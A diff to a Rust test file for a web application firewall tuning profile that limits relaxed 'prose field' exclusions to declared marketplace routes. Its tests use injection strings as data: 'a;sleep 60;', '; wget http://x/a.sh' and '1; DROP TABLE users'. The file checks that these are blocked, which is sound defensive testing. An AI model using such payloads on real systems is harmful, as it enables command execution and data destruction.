@@ -1,7 +1,8 @@
 //! The anshin tuning profile against what marketplace members really type
 //! (`corpus/benign.txt`) and against attacks (`corpus/attacks.txt`), at
 //! paranoia level 1, each entry sent as a query parameter, an urlencoded
-//! form field and a JSON string:
+//! form field and a JSON string, each on a route that declares the field
+//! as prose ([`prose_fields`]):
 //!
 //! * with the profile, no benign entry is blocked;
 //! * the profile blocks every (attack, shape) that stock CRS blocks.
@@ -11,7 +12,8 @@
 use std::path::PathBuf;
 
 use anshin_waf::{
-    ANSHIN_PROFILE, ANSHIN_PROFILE_BEFORE, LoadOptions, RECOMMENDED_BASE_RULES, Request, RuleSet,
+    ANSHIN_PROFILE, ANSHIN_PROFILE_BEFORE, LoadOptions, ProseField, RECOMMENDED_BASE_RULES,
+    Request, RuleSet, prose_field_rules,
 };
 
 fn crs_paths() -> Vec<String> {
@@ -22,11 +24,28 @@ fn crs_paths() -> Vec<String> {
     vec![setup, format!("{rules}/*.conf")]
 }
 
+/// The routes the corpus requests use, and their prose fields (what a
+/// marketplace declares: search, the item form, the item API).
+fn prose_fields() -> Vec<ProseField> {
+    vec![
+        ProseField::new("GET", "/search", "q"),
+        ProseField::new("POST", "/shop/items/new", "title"),
+        ProseField::new("POST", "/shop/items/new", "description"),
+        ProseField::new("POST", "/api/v1/items", "title"),
+        ProseField::new("POST", "/api/v1/items", "description"),
+    ]
+}
+
 fn load(profile: bool) -> RuleSet {
+    load_with(profile, &prose_fields())
+}
+
+fn load_with(profile: bool, prose: &[ProseField]) -> RuleSet {
     let mut before = vec![RECOMMENDED_BASE_RULES.to_owned()];
     let mut after = Vec::new();
     if profile {
         before.push(ANSHIN_PROFILE_BEFORE.to_owned());
+        before.push(prose_field_rules(prose).unwrap());
         after.push(ANSHIN_PROFILE.to_owned());
     }
     RuleSet::load(
@@ -292,4 +311,72 @@ fn profile_replacement_rules_keep_what_they_replace() {
         );
         assert!(rule_ids(&stock, &req).contains(&911100), "{method}");
     }
+}
+
+/// Issue 19: the prose exclusions used to hold for an argument name on
+/// every path, so `/?q=a;sleep 60;` passed where `/?x=a;sleep 60;` was
+/// blocked. They hold only where a route declares the field.
+#[test]
+fn c06_prose_exclusions_hold_only_on_the_route_that_declares_the_field() {
+    let tuned = load(true);
+    let blocked = |uri: &str| tuned.evaluate(&get(uri, "shop.example.jp")).disruptive;
+    let sleep = "a%3Bsleep+60%3B";
+    assert!(blocked(&format!("/?x={sleep}")).is_some());
+    assert!(
+        blocked(&format!("/?q={sleep}")).is_some(),
+        "q is prose only on /search"
+    );
+    assert!(
+        blocked(&format!("/search?q={sleep}")).is_none(),
+        "the declared route"
+    );
+    assert!(blocked(&format!("/search?x={sleep}")).is_some());
+    assert!(blocked(&format!("/search/x?q={sleep}")).is_some());
+    let mut post = get(&format!("/search?q={sleep}"), "shop.example.jp");
+    post.method = "POST".into();
+    assert!(
+        tuned.evaluate(&post).disruptive.is_some(),
+        "declared for GET only"
+    );
+    // The JSON and form shapes of the item routes: the declared fields
+    // pass, the same text in an undeclared field does not.
+    let text = "Tea towels | set of 3; wash & dry";
+    assert!(blocked_with(&tuned, text, Shape::Form, "description").is_none());
+    assert!(blocked_with(&tuned, text, Shape::Json, "description").is_none());
+    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Form, "description").is_none());
+    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Form, "note").is_some());
+    assert!(blocked_with(&tuned, "a;sleep 60;", Shape::Json, "note").is_some());
+    // With nothing declared, no argument is relaxed anywhere.
+    let bare = load_with(true, &[]);
+    let v = bare.evaluate(&get(&format!("/search?q={sleep}"), "shop.example.jp"));
+    assert!(v.disruptive.is_some());
+    // The narrower nets still catch attacks in a declared field.
+    assert!(
+        blocked(&format!(
+            "/search?q={}",
+            form_encode("; wget http://x/a.sh")
+        ))
+        .is_some()
+    );
+    assert!(blocked(&format!("/search?q={}", form_encode("1; DROP TABLE users"))).is_some());
+}
+
+/// The item form or API with `text` in the field `field` (and a title).
+fn blocked_with(rs: &RuleSet, text: &str, shape: Shape, field: &str) -> Option<Vec<u64>> {
+    let mut req = request(text, shape);
+    let body = String::from_utf8(req.body.clone()).unwrap();
+    let body = match shape {
+        Shape::Form => body.replace("&description=", &format!("&{field}=")),
+        Shape::Json => body.replace("\"description\"", &format!("\"{field}\"")),
+        Shape::Query => body,
+    };
+    for (name, value) in &mut req.headers {
+        if name == "Content-Length" {
+            *value = body.len().to_string().into_bytes();
+        }
+    }
+    req.body = body.into_bytes();
+    let v = rs.evaluate(&req);
+    v.disruptive
+        .map(|_| v.matches.iter().map(|m| m.rule_id).collect())
 }
